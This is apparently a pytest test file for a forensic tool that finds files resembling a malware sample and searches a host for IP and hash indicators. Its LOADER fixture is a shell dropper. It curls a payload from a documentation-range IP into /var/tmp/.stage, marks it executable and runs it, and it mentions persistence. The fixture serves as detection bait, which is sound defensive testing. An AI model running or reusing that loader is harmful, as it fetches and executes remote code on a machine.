import os
from hashlib import sha256
from pathlib import Path

import pytest

from hemostat.detect.rulebook import Rulebook
from hemostat.examine import hunt as module
from hemostat.examine.examination import examine
from hemostat.examine.hunt import Hunted, hunt_like, hunt_observable, wanted_features
from hemostat.examine.work import Settings
from hemostat.model.coverage import Outcome
from hemostat.model.errors import UsageError
from hemostat.trees.folder import FolderTree
from made_host import JOB, hurt_host
from made_roots import put, tree_of

LOADER = """#!/bin/sh
campaign=teal-octopus-{n}
fetch_stage() {{ curl -fsS "http://203.0.113.{n}/stage" -o /var/tmp/.stage; }}
fetch_stage && chmod 755 /var/tmp/.stage && /var/tmp/.stage --campaign "$campaign"
echo "keeping persistence alive for $campaign"
"""


def sample(folder: Path) -> str:
    path = folder / "sample"
    path.write_text(LOADER.format(n=1))
    return str(path)


def paths(hunted: Hunted) -> list[str]:
    return [str(each.features.path) for each in hunted.siblings]


@pytest.mark.requirement("A4.10")
def test_siblings_are_found_among_ordinary_files(tmp_path: Path) -> None:
    root = tmp_path / "root"
    put(root, "/usr/local/bin/sync", LOADER.format(n=88).encode())
    put(root, "/srv/copy", LOADER.format(n=1).encode())
    for number in range(30):
        text = f"#!/bin/sh\nset -e\nlogger job {number}\ncurl -fsS https://hc.test/{number}\n" * 3
        put(root, f"/opt/jobs/{number}.sh", text.encode())
    hunted = hunt_like(tree_of(root), wanted_features(sample(tmp_path)))
    assert paths(hunted) == ["/srv/copy", "/usr/local/bin/sync"]
    assert hunted.siblings[0].is_same
    assert hunted.coverage == []


def test_links_are_not_followed_out_of_the_tree(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "a").mkdir(parents=True)
    os.symlink(sample(tmp_path), root / "a/link")
    os.symlink("/", root / "a/loop")
    assert paths(hunt_like(tree_of(root), wanted_features(sample(tmp_path)))) == []


@pytest.mark.parametrize(("content", "said"), [(b"", "empty"), (None, "No such file")])
def test_nothing_to_compare_with_is_wrong_use(
    tmp_path: Path, content: bytes | None, said: str
) -> None:
    if content is not None:
        (tmp_path / "x").write_bytes(content)
    with pytest.raises(UsageError, match=said):
        wanted_features(str(tmp_path / "x"))


def look_for(root: Path, value: str) -> list[tuple[str, str]]:
    tree = FolderTree(os.fsencode(root))
    examined = examine(tree, Settings(rulebook=Rulebook.of(())))
    hunted = hunt_observable(tree, value, examined)
    return [(str(each.where), each.table) for each in hunted.places]


@pytest.mark.requirement("A4.10")
def test_a_value_is_found_in_records_and_files(tmp_path: Path) -> None:
    hurt_host(tmp_path)
    put(tmp_path, "/srv/notes", b"\0\0 see 198.51.100.7 there")
    found = look_for(tmp_path, "198.51.100.7")
    assert ("/etc/cron.d/update", "cron_job") in found
    assert {("/etc/cron.d/update", ""), ("/srv/notes", "")} <= set(found)
    assert look_for(tmp_path, "198.51.100.99") == []


@pytest.mark.parametrize("algorithm", ["sha256", "md5"])
def test_a_hash_finds_its_file(tmp_path: Path, algorithm: str) -> None:
    import hashlib

    hurt_host(tmp_path)
    value = hashlib.new(algorithm, JOB.encode()).hexdigest()
    assert ("/etc/cron.d/update", "") in look_for(tmp_path, value)
    assert look_for(tmp_path, sha256(b"nobody").hexdigest()) == []


def test_what_the_time_left_out_is_said(tmp_path: Path) -> None:
    root = tmp_path / "root"
    for number in range(5):
        put(root, f"/srv/{number}/x", LOADER.format(n=number).encode())
    hunted = hunt_like(tree_of(root), wanted_features(sample(tmp_path)), seconds=-1.0)
    assert [each.outcome for each in hunted.coverage] == [Outcome.TOO_LARGE]


def test_ctrl_c_leaves_what_was_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(tmp_path, "/srv/x", LOADER.format(n=3).encode())

    def interrupt(*given: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(module, "_show", interrupt)
    hunted = hunt_like(tree_of(tmp_path), wanted_features(sample(tmp_path)))
    assert not hunted.is_complete
